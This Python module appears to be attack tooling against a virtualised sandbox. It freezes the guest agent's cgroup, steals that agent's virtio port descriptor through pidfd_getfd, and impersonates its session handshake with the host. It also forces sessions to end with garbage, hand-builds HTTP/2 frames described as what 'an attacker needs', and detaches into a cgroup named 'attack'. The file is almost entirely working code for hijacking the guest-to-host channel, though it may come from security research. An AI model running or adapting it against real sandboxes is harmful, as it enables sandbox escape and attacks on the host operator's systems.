"""A virtio port of this sandbox, taken away from sbx-guest: what root in a sandbox can do, and so any program in it may.

with stopped_guest():                 # or port.stop_holder() for the files port
    port = Port("sbx.network")        # a copy of sbx-guest's own descriptor: the device opens only once
    port.synchronise()                # as sbx-guest would, when the host has connected anew
"""
import contextlib
import ctypes
import glob
import os
import select
import signal
import struct
import sys
import threading
import time

SYN = b"\xf5SBXSYN1"
ACK = b"\xf5SBXACK1"
GUEST = "/sys/fs/cgroup/init"
PIDFD_GETFD = 438


class Lost(Exception):
    """The host has ended the session; perhaps it has begun another one by now."""


def device_of(name):
    for folder in glob.glob("/sys/class/virtio-ports/*"):
        with open(folder + "/name") as file:
            if file.read().strip() == name:
                return "/dev/" + os.path.basename(folder)
    raise SystemExit("there is no port " + name)


def holder_of(device):
    for link in glob.glob("/proc/[0-9]*/fd/*"):
        with contextlib.suppress(OSError):
            if os.readlink(link) == device:
                parts = link.split("/")
                return int(parts[2]), int(parts[4])
    raise SystemExit("nobody holds " + device)


def state_of(stat):
    """Of a thread (proc_pid_stat(5)); X if it is gone."""
    with contextlib.suppress(OSError), open(stat) as file:
        return file.read().rpartition(")")[2].split()[0]
    return "X"


def put(path, text):
    with open(path, "w") as file:
        file.write(text)


def get(path):
    with open(path) as file:
        return file.read()


@contextlib.contextmanager
def stopped_guest(limit=240):
    """sbx-guest and its relay stand still; they go on after `limit` seconds whatever happens here."""
    put(GUEST + "/cgroup.freeze", "1")
    end = time.monotonic() + 10
    while "frozen 1" not in get(GUEST + "/cgroup.events") and time.monotonic() < end:
        time.sleep(0.002)
    watchdog = os.fork()
    if watchdog == 0:
        os.setsid()
        time.sleep(limit)
        put(GUEST + "/cgroup.freeze", "0")
        os._exit(0)
    try:
        yield
    finally:
        put(GUEST + "/cgroup.freeze", "0")
        os.kill(watchdog, signal.SIGKILL)
        os.waitpid(watchdog, 0)


class Port:
    def __init__(self, name):
        self.holder, number = holder_of(device_of(name))
        libc = ctypes.CDLL(None, use_errno=True)
        self.fd = libc.syscall(PIDFD_GETFD, os.pidfd_open(self.holder), number, 0)
        if self.fd < 0:
            raise SystemExit("pidfd_getfd: " + os.strerror(ctypes.get_errno()))
        self.held = b""
        self.nonce = None  # of the session; None: before the first one of our own, or between two
        self.lost = False
        self._tail = self._next = b""

    def stop_holder(self):
        os.kill(self.holder, signal.SIGSTOP)
        # A thread that waits in read() still takes what comes before it has noticed.
        for task in glob.glob(f"/proc/{self.holder}/task/*/stat"):
            while state_of(task) not in "TtZX":
                time.sleep(0.002)

    def end_holder(self):
        """sbx-guest starts another one, which can open the port once we have closed it."""
        with contextlib.suppress(ProcessLookupError):  # sbx-guest may have done so, to mount anew
            os.kill(self.holder, signal.SIGKILL)

    def close(self):
        os.close(self.fd)

    def _wait(self, events, seconds):
        poller = select.poll()
        poller.register(self.fd, events)
        ready = poller.poll(max(0, seconds) * 1000)
        return ready[0][1] if ready else 0

    def send(self, data, seconds=20):
        """How much the host took before it ended the session or stopped reading."""
        view = memoryview(data)
        sent = 0
        end = time.monotonic() + seconds
        while sent < len(view) and not self.lost:
            events = self._wait(select.POLLOUT, min(0.5, end - time.monotonic()))
            if events & select.POLLHUP:
                self.lost = True
            if not events & select.POLLOUT:
                if time.monotonic() > end:
                    return sent
                continue
            try:
                sent += os.write(self.fd, view[sent:sent + 32768])
            except BlockingIOError:
                continue
            except OSError:
                return sent
        return sent

    def _receive(self, seconds):
        events = self._wait(select.POLLIN, seconds)
        if events & select.POLLIN:
            try:
                data = os.read(self.fd, 1 << 16)
            except BlockingIOError:
                return b""
            if data:
                return data
        if events & (select.POLLIN | select.POLLHUP):
            self.lost = True
            raise Lost()
        return b""

    def receive(self, seconds=20):
        """b"" if nothing comes."""
        data = self._receive(seconds)
        # The end of one session and the beginning of the next can come faster than we look.
        seen = self._tail + data
        at = seen.find(SYN)
        while 0 <= at <= len(seen) - 24:
            if seen[at + 8:at + 24] != self.nonce:
                self._next = seen[at:]
                self.lost = True
                raise Lost()
            at = seen.find(SYN, at + 1)
        self._tail = seen[-23:]
        return data

    def read(self, size, seconds=20):
        end = time.monotonic() + seconds
        while len(self.held) < size:
            if time.monotonic() > end:
                raise TimeoutError("the host is silent")
            self.held += self.receive(end - time.monotonic())
        data, self.held = self.held[:size], self.held[size:]
        return data

    def wait_until_lost(self, seconds=30):
        """False: the host keeps the session."""
        end = time.monotonic() + seconds
        try:
            while time.monotonic() < end and not self.lost:
                self.receive(min(0.5, end - time.monotonic()))
        except Lost:
            pass
        return self.lost

    def end_session(self):
        """With something that no protocol has. What is on its way to us is thrown away."""
        if self.lost:
            return
        drain = Drain(self)
        self.send(b"\xff" * (64 << 10), 10)
        drain.wait(30)
        if not self.lost:
            raise SystemExit("the host keeps a session of garbage")

    def synchronise(self, answer=True, seconds=60):
        end = time.monotonic() + seconds
        seen, self.held, self._tail, self._next = self._next, b"", b"", b""
        while True:
            at = seen.find(SYN)
            if 0 <= at <= len(seen) - 24:
                break
            if time.monotonic() > end:
                raise SystemExit("the host does not connect again")
            try:
                seen += self._receive(end - time.monotonic())
            except Lost:
                time.sleep(0.02)  # a port tells of a host that comes only at an edge that others wait for
        self.nonce = seen[at + 8:at + 24]
        self.held = seen[at + 24:]
        self.lost = False
        if answer:
            self.send(ACK + self.nonce)
            # What was on its way twice.
            while len(self.held) >= 24 and self.held.startswith(SYN + self.nonce):
                self.held = self.held[24:]


class Drain:
    """Reads and forgets until the session is lost, so that the host is never kept waiting."""

    def __init__(self, port):
        self.ended = False
        self.port = port
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.ended and not self.port.lost:
            try:
                self.port.receive(0.2)
            except Lost:
                pass

    def wait(self, seconds):
        self.thread.join(seconds)
        self.stop()

    def stop(self):
        self.ended = True
        self.thread.join()


# HTTP/2 (RFC 9113), no more of it than an attacker needs.
DATA, HEADERS, RESET, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 5, 6, 7, 8, 9
END_STREAM, END_HEADERS, SETTINGS_ACK = 1, 4, 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def text(value):
    return integer(len(value), 7) + value


def field(name, value):
    """Literal without indexing, new name (RFC 7541 section 6.2.2)."""
    return b"\x00" + text(name) + text(value)


BEGAN = time.monotonic()


def say(word, value=""):
    print("%s %s (after %.1f s)" % (word, value, time.monotonic() - BEGAN), flush=True)


def detach(result):
    """Out of the exec session and its cgroup, so that the end of either is not ours; stdout goes to a file."""
    os.makedirs("/sys/fs/cgroup/attack", exist_ok=True)
    if os.fork() != 0:
        os._exit(0)
    os.setsid()
    put("/sys/fs/cgroup/attack/cgroup.procs", str(os.getpid()))
    null = os.open("/dev/null", os.O_RDWR)
    out = os.open(result + ".part", os.O_CREAT | os.O_WRONLY | os.O_TRUNC, 0o644)
    os.dup2(null, 0)
    os.dup2(out, 1)
    os.dup2(out, 2)
    return lambda: (sys.stdout.flush(), os.rename(result + ".part", result))
